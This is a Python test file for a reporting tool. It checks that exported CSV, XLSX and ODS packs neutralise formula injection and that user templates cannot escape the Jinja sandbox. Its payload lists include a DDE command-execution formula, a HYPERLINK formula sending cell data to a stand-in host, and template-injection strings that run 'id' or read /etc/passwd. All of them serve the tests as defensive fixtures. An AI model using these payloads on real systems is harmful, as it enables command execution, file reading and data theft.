"""Other people's text in a pack: never a formula, never a command to the template engine."""

from __future__ import annotations

import csv
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from defusedxml import ElementTree

from tests.report import sample_place as sample
from tp_cli import safe
from tp_cli.errors import TpError
from tp_cli.place import Place
from tp_cli.report.pack import write_packs
from tp_cli.report.pages import HTML, MARKDOWN, PLAN, Templates
from tp_cli.store import Store

STARTS = [
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "＝",
    "＋",
    "－",
    "＠",
    " =",
    "\u00a0=",
    "\ufeff=",
    "'=",
    '"=',
    "\u200b=",
    "|",
    "%",
    "\x00=",
]
BODIES = ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?x="&A1,"click")']
PAYLOADS = [f"{start}{body}" for start in STARTS for body in BODIES]
PREFIXED = ("=", "+", "-", "@")


def hostile(folder: Path, payload: str) -> tuple[Store, Place]:
    """The sample place with the payload in every text that comes from outside."""
    figures = sample.figures()
    for row in figures.rows:
        row["title"] = f"{payload} title"
        if row["unit"] == "text" and row["column"] not in ("holds", "year"):
            row["value"] = payload
    texts = (
        "where",
        "found",
        "expected",
        "fix",
        "reason",
        "text",
        "file",
        "value",
        "code",
        "layout",
        "driver",
        "payee",
    )

    def spoilt(rows: list[dict[str, Any]]) -> list[dict[str, Any]]:
        return [
            {k: payload if k in texts and r.get("unit", "text") == "text" else v for k, v in r.items()} for r in rows
        ]

    caveats = [{"code": payload, "text": payload, "position": 0}]
    store = sample.fill(
        folder, figures, parts=spoilt(sample.parts()), sources=spoilt(sample.sources()),
        problems=spoilt(sample.PROBLEMS), caveats=caveats, projections=spoilt(sample.projections()),
    )  # fmt: skip
    data = sample.place().model_dump(by_alias=True)
    for agency in data["agency"]:
        agency["name"] = f"{payload} {agency['id']}"
    data["place"] |= {"name": payload, "region": payload}
    return store, Place.model_validate(data)


def foreign_formulas(out: Path) -> list[str]:
    """Formulas that our own builder did not make, in every spreadsheet and CSV of a folder."""
    found = [f"{path.name}: {each}" for path in sorted(out.rglob("*.xlsx")) for each in _in_workbook(path)]
    for path in sorted(out.rglob("*.ods")):
        tree = ElementTree.fromstring(zipfile.ZipFile(path).read("content.xml"))
        found += [f"{path.name}: formula" for item in tree.iter() if any(k.endswith("}formula") for k in item.attrib)]
    for path in sorted(out.rglob("*.csv")):
        with path.open(encoding="utf-8", newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        found += [f"{path.name}: {cell!r}" for cell in cells if _live_in_csv(cell)]
    return found


def _in_workbook(path: Path) -> Iterator[str]:
    """Formulas of cells with words of a payload, or any in a public workbook; links; formulas of charts."""
    for sheet in openpyxl.load_workbook(path):
        for cell in (cell for row in sheet.iter_rows() for cell in row):
            foreign = any(word in str(cell.value) for word in ("cmd", "1+1", "evil.example"))
            if cell.data_type == "f" and (foreign or path.name.startswith("publish")):
                yield str(cell.value)
            if cell.hyperlink is not None and cell.hyperlink.target:
                yield f"link to {cell.hyperlink.target}"
    with zipfile.ZipFile(path) as book:
        for name in [name for name in book.namelist() if "chart" in name and name.endswith(".xml")]:
            for item in ElementTree.fromstring(book.read(name)).iter():
                if item.tag.endswith("}f") and any(word in (item.text or "") for word in ("cmd", "1+1", "evil")):
                    yield f"{name}: {item.text}"


def _live_in_csv(cell: str) -> bool:
    bare = cell.lstrip(' \t\r\n\u00a0\ufeff\u200b\ufffd"')
    return bare.startswith((*PREFIXED, "＝", "＋", "－", "＠")) and not _is_number(cell)


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_there_are_sixty_payloads() -> None:
    assert len(set(PAYLOADS)) == 60


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_in_every_text_makes_no_formula_anywhere(tmp_path: Path, payload: str) -> None:
    store, place = hostile(tmp_path, payload)
    write_packs(store, place, tmp_path, ["publish"], ["xlsx", "ods", "csv"], tmp_path / "out")
    write_packs(store, place, tmp_path, ["board"], ["xlsx"], tmp_path / "out")
    assert foreign_formulas(tmp_path / "out") == []


@pytest.mark.parametrize("text", ["Council", "A-B Ltd", "1 = 2", "a@b", "", "£5", "株式会社", "O'Brien"])
def test_plain_text_stays_as_it_is_in_a_csv(text: str) -> None:
    assert safe.for_csv(text) == text


@pytest.mark.parametrize("title", ["Wow!A1 takes half", "=Sheet1!$A$1", "a'b'!$ZZ9", "Bingo!", "=1+1"])
def test_the_title_of_a_chart_is_never_a_link_to_a_cell(title: str) -> None:
    assert not re.match(r"^=?[^!]+!\$?[A-Z]+\$?\d+", safe.for_chart(title))
    assert safe.for_chart("Bingo! takes half") == "Bingo! takes half"


def test_a_formula_in_a_csv_is_shown_with_an_apostrophe() -> None:
    assert safe.for_csv("=1+1") == "'=1+1"
    assert safe.for_csv("  @SUM(A1)") == "'  @SUM(A1)"
    assert safe.for_csv("＝1+1") == "'＝1+1"


ESCAPES = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ place.__class__.__init__.__globals__ }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ self.__init__.__globals__ }}",
    "{{ self._TemplateReference__context.cycler.__init__.__globals__.os }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ request.application.__globals__ }}",
    "{{ config.items() }}",
    "{{ joiner.__init__.__globals__ }}",
    "{{ namespace.__init__.__globals__ }}",
    "{{ (place | attr('__class__')).__mro__ }}",
    "{{ place | attr('\\x5f\\x5fclass\\x5f\\x5f') | attr('__base__') }}",
    "{{ ().__class__.__base__.__subclasses__()[0] }}",
    "{{ [].append.__self__.__class__ }}",
    "{{ '%s' | format(place.__dict__) }}",
    "{{ '{0.__class__.__init__.__globals__}'.format(place) }}",
    "{{ '{0.__class__}'.format_map({'0': place}) }}",
    "{% set x = place %}{{ x.__getattribute__('__class__') }}",
    "{{ range(999999999) | list }}",
    "{{ agencies.append(1) }}",
    "{{ scope.__class__ }}",
    "{% include '/etc/passwd' %}",
    "{% include '../../place.toml' %}",
    "{% import 'os' as os %}{{ os.system('id') }}",
    "{% extends '/etc/passwd' %}",
    "{{ place.name.__class__.__mro__ }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
    "{{ url_for.__globals__ }}",
    "{{ get_flashed_messages.__globals__ }}",
    "{{ dict.__base__.__subclasses__() }}",
    "{{ caller.__globals__ }}",
    "{{ loop.__init__.__globals__ }}",
]


@pytest.mark.parametrize("form", [HTML, MARKDOWN, PLAN], ids=lambda form: form.name)
@pytest.mark.parametrize("escape", ESCAPES)
def test_a_template_cannot_leave_its_sandbox(tmp_path: Path, escape: str, form: Any) -> None:
    from tp_cli.report.gather import gather

    (tmp_path / "templates").mkdir()
    (tmp_path / "templates" / "own.j2").write_text(escape, encoding="utf-8")
    facts = gather(sample.fill(tmp_path), sample.place())
    try:
        text = Templates(tmp_path).render("own.j2", form, facts)
    except TpError as error:
        assert error.problems[0].code in ("template", "no-template")
        return
    for sign in ("<class", "class '", "root:", "uid=", "<function", "module 'os'", "__main__", "built-in"):
        assert sign not in text


@pytest.mark.parametrize("escape", ESCAPES)
def test_text_from_a_file_is_never_run_as_a_template(tmp_path: Path, escape: str) -> None:
    store, place = hostile(tmp_path, escape)
    write_packs(store, place, tmp_path, ["publish"], ["md"], tmp_path / "out")
    text = (tmp_path / "out" / "publish.md").read_text(encoding="utf-8")
    assert safe.for_markdown(f"{escape} title") in text
